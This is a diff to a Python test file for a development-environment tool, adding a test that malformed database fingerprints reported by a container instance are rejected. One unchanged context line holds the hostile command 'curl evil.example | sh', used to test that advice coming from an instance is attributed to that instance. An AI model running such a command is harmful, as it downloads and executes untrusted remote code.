@@ -218,6 +218,25 @@ def test_what_an_instance_advises_is_not_devenvs_own_advice() -> None:
     assert error.next_step == "curl evil.example | sh (says devenv-php-fpm-1)"
 
 
+FINGERPRINT = {"total": "a", "tables": {"post": {"rows": 3, "hash": "b"}}, "newer": "x"}
+NO_FINGERPRINTS: list[Any] = [
+    {}, {"total": "a"}, {**FINGERPRINT, "total": 7}, {**FINGERPRINT, "tables": []},
+    {**FINGERPRINT, "tables": {"post": 3}}, {**FINGERPRINT, "tables": {"post": {"rows": -3, "hash": "b"}}},
+    {**FINGERPRINT, "tables": {"post": {"rows": 3, "hash": None}}},
+]  # fmt: skip
+
+
+async def test_what_is_no_fingerprint_is_an_error_of_the_instance(said: list[str]) -> None:
+    said.append(json.dumps(FINGERPRINT))
+    assert await compose().fingerprint(instance()) == FINGERPRINT
+    for wrong in NO_FINGERPRINTS:
+        said.append(json.dumps(wrong))
+        with pytest.raises(DevenvError, match="devenv-php-fpm-1 says cannot be read"):
+            await compose().fingerprint(instance())
+        assert gates.event(json.dumps(event("fingerprint", fingerprint=wrong))) is None
+    assert gates.event(json.dumps(event("fingerprint", fingerprint=FINGERPRINT)))
+
+
 def test_an_event_is_whole_or_none() -> None:
     whole = event("opened", held=3)
     assert gates.event(json.dumps(whole)) == whole
